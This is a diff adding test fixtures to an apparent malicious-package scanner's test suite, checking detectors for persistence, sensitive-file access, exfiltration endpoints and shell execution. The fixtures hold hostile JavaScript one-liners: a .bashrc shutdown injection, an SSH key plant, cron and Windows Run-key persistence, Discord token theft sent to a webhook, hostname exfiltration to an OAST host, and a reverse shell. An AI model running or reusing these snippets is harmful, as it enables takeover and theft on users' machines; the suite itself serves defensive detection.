@@ -8,6 +8,7 @@ import { envHarvest } from '../../src/checks/env-harvest.js';
 import { exfilEndpoint } from '../../src/checks/exfil-endpoint.js';
 import { hardcodedRecipient } from '../../src/checks/hardcoded-recipient.js';
 import { obfuscation } from '../../src/checks/obfuscation.js';
+import { persistence } from '../../src/checks/persistence.js';
 import { remoteCode } from '../../src/checks/remote-code.js';
 import { selfPropagation } from '../../src/checks/self-propagation.js';
 import { sensitiveFiles } from '../../src/checks/sensitive-files.js';
@@ -523,5 +524,97 @@ testCheck(dropper, {
         'build/Release/addon.node': '\u007fELF\u0002\u0001\u0001',
       },
     },
+  ],
+});
+
+testCheck(persistence, {
+  flagged: [
+    {
+      ...code(
+        'appending to ~/.bashrc (nx s1ngularity 2025)',
+        "const fs = require('fs'); fs.appendFileSync(require('path').join(require('os').homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n');",
+      ),
+      severity: 'high',
+    },
+    {
+      ...code(
+        'an SSH key planted, next to a download',
+        "const fs = require('fs'); fs.appendFileSync(home + '/.ssh/authorized_keys', key); require('https').get('https://x.invalid/k');",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
+        'a cron job through a shell',
+        "require('child_process').execSync('(crontab -l; echo \"*/5 * * * * node ~/.cache/w.js\") | crontab -')",
+      ),
+      severity: 'high',
+    },
+    {
+      ...code(
+        'a Windows Run key',
+        "require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d ' + exe)",
+      ),
+      severity: 'high',
+    },
+  ],
+  clean: [
+    code(
+      'reading ~/.bashrc to detect the shell',
+      "const rc = require('fs').readFileSync(require('path').join(require('os').homedir(), '.zshrc'), 'utf8');",
+    ),
+    code(
+      'writing its own config',
+      "require('fs').writeFileSync(require('path').join(require('os').homedir(), '.config', 'mytool.json'), '{}');",
+    ),
+  ],
+});
+
+testCheck(sensitiveFiles, {
+  flagged: [
+    {
+      ...code(
+        'Discord tokens found through path.join and sent',
+        "const p = require('path').join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb'); const files = require('fs').readdirSync(p); fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify(files) });",
+      ),
+      severity: 'critical',
+    },
+  ],
+  clean: [],
+});
+
+testCheck(exfilEndpoint, {
+  flagged: [
+    {
+      ...code(
+        'a bare OAST host in request options',
+        "const os = require('os'); require('https').request({ hostname: 'c7x1.oast.fun', method: 'POST' }).end(os.hostname());",
+      ),
+      severity: 'critical',
+    },
+  ],
+  clean: [
+    code(
+      'an ordinary host name in options',
+      "require('https').request({ hostname: 'api.github.com', path: '/user' })",
+    ),
+  ],
+});
+
+testCheck(shellExec, {
+  flagged: [
+    {
+      ...code(
+        'a reverse shell in JavaScript',
+        "const net = require('net'); const cp = require('child_process'); const s = net.connect(4444, '198.51.100.9', () => { const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); });",
+      ),
+      severity: 'critical',
+    },
+  ],
+  clean: [
+    code(
+      'a TCP client that runs git, not a shell',
+      "const net = require('net'); net.connect(6379, 'localhost'); require('child_process').execFile('git', ['status'])",
+    ),
   ],
 });
